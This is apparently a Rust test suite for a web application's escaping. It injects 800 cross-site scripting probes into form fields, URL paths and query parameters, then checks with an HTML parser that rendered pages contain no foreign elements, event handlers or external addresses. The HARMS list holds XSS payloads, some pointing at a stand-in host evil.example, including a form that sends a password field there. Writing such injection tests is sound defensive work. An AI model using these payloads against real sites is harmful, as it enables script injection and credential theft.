//! Eight hundred texts that try to become part of a page, in every field a person may write and every part of an address: they are
//! shown as text, and nothing else. Pages are read by a parser of browsers' own rules.

use crate::world::{Browser, Office, official};
use register::account::OpenAccount;
use register::import::{ImportUnits, UnitRow};
use register::instrument::{Body, IssueInstrument, hash};
use register::permission::Role;
use register::proposal::ProposePlan;
use register::report::ReturnReport;
use register::task::{AssignTasks, TaskRow};
use register::tasks::{Due, Source};
use register::unit::Names;
use register::{Act, Text};
use scraper::{Html, Node};
use testkit::world::day;
use web::routes::{Method, ROUTES};

/// What ends the place a text may stand in: a value in either quotes, an element, a comment, a script.
const ENDS: [&str; 10] =
    ["", "\">", "'>", "\" ", "' ", "</title>", "</textarea>", "</script>", "-->", "</td></table>"];

/// What then does something. `alarm()` stands for any harm.
const HARMS: [&str; 20] = [
    "<script>alarm()</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=alarm()>",
    "<svg onload=alarm()>",
    "<svg><script>alarm()</script></svg>",
    "onfocus=alarm() autofocus x=",
    "style=position:fixed;inset:0 x=",
    "<a href=javascript:alarm()>here</a>",
    "<a href=\"data:text/html,<script>alarm()</script>\">here</a>",
    "<iframe srcdoc=\"<script>alarm()</script>\"></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input name=password>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<object data=//evil.example/a.swf></object>",
    "<style>@import '//evil.example/a.css'</style>",
    "<math><mtext><img src=x onerror=alarm()></mtext></math>",
    "<details open ontoggle=alarm()>",
    "<template><video onloadstart=alarm()></template>",
    "{{ alarm() }}<plaintext>",
];

/// How else the same may be written.
const GUISES: [fn(&str) -> String; 4] = [
    str::to_owned,
    |text| text.chars().enumerate().map(|(at, sign)| raised(at, sign)).collect(),
    |text| text.replace('<', "&lt;").replace('"', "&quot;"),
    |text| format!("\u{202e}مرحبا {text} \u{2066}"),
];

fn raised(at: usize, sign: char) -> char {
    if at.is_multiple_of(2) { sign.to_ascii_uppercase() } else { sign }
}

/// Every end with every harm in every guise. The number makes each one's text its own.
fn texts() -> Vec<String> {
    let mut texts = Vec::new();
    for end in ENDS {
        for harm in HARMS {
            for guise in GUISES {
                texts.push(format!("{end}{}{}", texts.len(), guise(harm)));
            }
        }
    }
    assert_eq!(texts.len(), 800);
    texts
}

/// What the site itself puts into pages. A page that needs another element adds it here, and says to a reader that it does.
const ELEMENTS: &str = "\
    a abbr article aside b bdi blockquote body br button caption circle code dd defs desc details div dl dt \
    em fieldset figcaption figure footer form g h1 h2 h3 head header hr html i input label legend li line \
    link main mark meta nav ol optgroup option output p path pattern polygon polyline pre rect s script \
    section select small span strong summary svg symbol table tbody td text textarea tfoot th thead time \
    title tr ul use";

/// Attributes that name something to load or to go to.
const ADDRESSES: [&str; 7] = ["action", "data", "formaction", "href", "src", "srcset", "xlink:href"];

/// Says what in a page is not the site's own.
fn foreign(page: &str) -> Option<String> {
    let page = Html::parse_document(page);
    for node in page.tree.values() {
        let Node::Element(element) = node else { continue };
        let name = element.name();
        if !ELEMENTS.split(' ').any(|ours| ours == name) {
            return Some(format!("an element {name}"));
        }
        for (attribute, value) in element.attrs() {
            let is_ours = value.is_empty() || value.starts_with(['/', '#', '?']) && !value.starts_with("//");
            let is_icon = name == "link" && value.starts_with("data:image/svg+xml,");
            if ADDRESSES.contains(&attribute) && !is_ours && !is_icon {
                return Some(format!("{attribute} of {name} leads to {value}"));
            }
            if attribute.starts_with("on")
                || ["style", "srcdoc", "http-equiv", "autofocus"].contains(&attribute)
            {
                return Some(format!("{attribute} of {name}"));
            }
        }
        let loads = element.attr("src").is_some_and(|source| source.starts_with("/assets/"));
        if name == "script" && !loads {
            return Some("a script in the page".to_owned());
        }
    }
    None
}

/// Fails where a page holds what is not the site's own.
fn assert_ours(address: &str, page: &str) {
    if let Some(found) = foreign(page) {
        panic!("{address} holds {found}:\n{page}");
    }
}

/// Returns the text of a page, as it is read.
fn shown(page: &str) -> String {
    Html::parse_document(page).root_element().text().collect()
}

fn text(of: &str) -> Text {
    Text::from(of)
}

/// An office in whose every field such texts stand: names of units, tasks, instruments and their words, officials, reasons.
fn office(texts: &[String]) -> Office {
    // Names and tasks with signs that turn the text round are refused.
    let named = texts.iter().enumerate().filter(|(_, name)| !name.contains('\u{202e}'));
    let names = |name: &str| Names { en: Some(text(name)), ar: Some(text(name)), vi: Some(text(name)) };
    let unit = |(at, name): (usize, &String)| UnitRow {
        row: at as u64 + 2,
        code: text(&format!("X{at}")),
        parent: Some(text("A1")),
        level: text("commune"),
        names: names(name),
        ..UnitRow::default()
    };
    let units = ImportUnits { on: None, rows: named.clone().map(unit).collect() };
    let task = |(at, said): (usize, &String)| TaskRow {
        row: None,
        task: text(&format!("T{at}")),
        text: text(said),
        lead: text("A1"),
        with: Vec::new(),
        source: Source::Provision { instrument: text(said), part: text(said) },
        assigned: day("2025-01-02"),
        due: Due::On(day("2025-06-30")),
        target: None,
    };
    let tasks = AssignTasks { rows: named.clone().map(task).collect() };
    let all = texts.join("\n");
    let instrument = IssueInstrument {
        number: text("1/X"),
        kind: text("directive"),
        date: day("2025-01-02"),
        from: None,
        until: None,
        issuer: Some(text(&texts[..3].concat())),
        title: Some(text(&texts[..3].concat())),
        body: Some(Body { sha256: text(&hash(&all)), text: all }),
        provisions: Vec::new(),
        relations: Vec::new(),
    };
    let account = |(at, name): (usize, &String)| {
        let (account, name) = (text(&format!("x{at}")), text(name));
        Act::OpenAccount(OpenAccount { account, name, language: text("en"), unit: None })
    };
    let returned = ReturnReport {
        unit: text("B22"),
        form: text("quarterly"),
        period: "2025-Q1".parse().unwrap(),
        cites: base::Seq(9),
        reason: text(&texts[..3].concat()),
    };
    let mut acts = official("ana", None, Some((Role::Administrator, None)));
    for role in [Role::Auditor, Role::Planner, Role::Assessor, Role::Verifier] {
        acts.extend(official("ana", None, Some((role, None))).into_iter().skip(1));
    }
    acts.extend([Act::ImportUnits(units), Act::AssignTasks(tasks), Act::IssueInstrument(instrument)]);
    acts.push(Act::ReturnReport(returned));
    let label = texts[..3].concat().replace('\\', "\\\\").replace('"', "\\\"");
    acts.push(Act::ProposePlan(ProposePlan {
        from: day("2024-01-01"),
        text: text(&testkit::world::PLAN.replace("\"Movement\"", &format!("\"{label}\""))),
        reason: text(&texts[..3].concat()),
    }));
    acts.extend(named.step_by(20).map(account));
    Office::with(&acts)
}

/// Returns the paths of the pages that can be read. The review as a file has a style of its own, and is read by its own test.
fn addresses() -> impl Iterator<Item = &'static str> {
    ROUTES
        .iter()
        .filter(|route| {
            route.method() == Method::Get && !["/assets/{file}", "/review/file"].contains(&route.path)
        })
        .map(|route| route.path)
}

fn filled(path: &str, with: impl Fn(&str) -> &'static str) -> String {
    let mut filled = path.to_owned();
    while let Some((before, rest)) = filled.clone().split_once('{') {
        let (name, after) = rest.split_once('}').unwrap();
        filled = format!("{before}{}{after}", with(name));
    }
    filled
}

#[test]
fn what_is_written_in_fields_is_shown_as_text() {
    let texts = texts();
    let office = office(&texts);
    let mut browser = Browser::of(&office);
    browser.keep_session(&office.sign_in("ana"));
    let named = |path: &'static str| {
        filled(path, |name| match (name, path) {
            ("code", _) if path.starts_with("/accounts") => "x20",
            ("code", _) => "X1",
            ("name", _) if path.starts_with("/plans") => "movement",
            ("name", _) => "launch",
            ("number", _) => "1%2FX",
            ("form", _) => "quarterly",
            ("entry", _) => "12",
            _ => "x20",
        })
    };
    let mut read = 0;
    for path in addresses() {
        for rest in ["", "?unit=X3", "?unit=A1&lang=ar"] {
            let address = named(path) + rest;
            let answer = browser.get(&address);
            if answer.header("content-type").starts_with("text/html") {
                assert_ours(&address, &answer.text);
                read += 1;
            }
        }
    }
    assert!(read > 60, "{read} pages were read");
    for entry in 10..40 {
        let address = format!("/journal/{entry}");
        assert_ours(&address, &browser.get(&address).text);
    }
    let plan = browser.get("/plans/movement").text;
    assert_ours("/plans/movement", &plan);
    let proposal = plan.split("href=\"/proposals/").nth(1).and_then(|rest| rest.split('?').next()).unwrap();
    let proposal = browser.get(&format!("/proposals/{}", proposal.split('"').next().unwrap())).text;
    assert_ours("/proposals", &proposal);
    assert!(shown(&proposal).contains(&texts[..3].concat()), "{proposal}");
    let text = shown(&browser.get("/instruments/1%2FX").text);
    for written in texts.iter().take(700) {
        assert!(text.contains(written.as_str()), "{written} is not in the text as shown");
    }
}

/// What an address may say besides.
const NAMES: [&str; 22] = [
    "unit", "period", "through", "map", "as_of", "figures", "q", "to", "state", "before", "of", "within",
    "lang", "digits", "said", "recorded", "all", "level", "page", "form", "code", "find",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn what_stands_in_addresses_is_shown_as_text() {
    let office = Office::new();
    let texts: Vec<String> = texts().iter().map(|text| encoded(text)).collect();
    let paths: Vec<&str> = addresses().collect();
    let ask = |address: &str| {
        let answer = office.get(address, "en");
        assert!(!answer.status.is_server_error(), "{address}: {}", answer.text);
        if answer.header("content-type").starts_with("text/html") {
            assert_ours(address, &answer.text);
        }
    };
    for (at, text) in texts.iter().enumerate() {
        // Each text in the path of one page and in every name of another.
        let path = paths[at % paths.len()];
        let (before, rest) = path.split_once('{').unwrap_or((path, "}"));
        ask(&format!("{before}{text}{}", rest.split_once('}').unwrap().1));
        let all: Vec<String> = NAMES.iter().map(|name| format!("{name}={text}")).collect();
        ask(&format!("{}?{}", filled(path, |_| "launch"), all.join("&")));
    }
    for path in paths {
        for (at, name) in NAMES.iter().enumerate() {
            ask(&format!("{}?{name}={}", filled(path, |_| "launch"), texts[at * 37 % 800]));
        }
    }
}

#[test]
fn what_a_form_sends_is_shown_as_text() {
    let office = Office::new();
    let texts = texts();
    for some in texts.chunks(20) {
        let joined = some.concat();
        let mut browser = Browser::of(&office);
        browser.get("/sign-in");
        let answer = browser.post("/sign-in", &[("account", &joined), ("password", &joined)]);
        assert_ours("/sign-in", &answer.text);
        browser.get("/plans/movement");
        let answer = browser.post("/plans/movement", &[("text", &joined)]);
        assert!(shown(&answer.text).contains(some[7].as_str()), "{}", answer.text);
        assert_ours("/plans/movement", &answer.text);
    }
}

#[test]
fn the_judge_sees_what_is_foreign() {
    let page = |inside: &str| format!("<!doctype html><title>x</title><p>{inside}</p>");
    assert_eq!(foreign(&page("1 &lt; 2")), None);
    let plain = HARMS.iter().filter(|harm| harm.starts_with('<'));
    for harm in plain {
        assert!(foreign(&page(harm)).is_some(), "{harm}");
    }
    assert!(foreign(&page("<a href=\"/x\" onfocus=alarm()>x</a>")).is_some());
}
